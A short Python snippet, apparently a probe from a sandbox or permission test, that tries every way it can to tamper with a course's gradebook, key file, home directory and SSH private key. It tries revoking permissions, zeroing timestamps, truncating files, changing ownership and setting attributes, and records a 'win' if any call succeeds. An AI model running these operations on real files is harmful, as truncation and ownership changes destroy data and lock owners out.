"""Takes the rights to the course's files away from their owner, or changes their times."""

import os

won = False
for path in (f"{COURSE}/gradebook.db", f"{COURSE}/course.key", COURSE, HOME, f"{HOME}/.ssh/id_ed25519"):
    for change in (lambda p: os.chmod(p, 0), lambda p: os.utime(p, (0, 0)), lambda p: os.truncate(p, 0),
                   lambda p: os.chown(p, 12345, 12345), lambda p: os.setxattr(p, "user.x", b"1")):
        try:
            change(path)
            won = True
        except OSError:
            continue
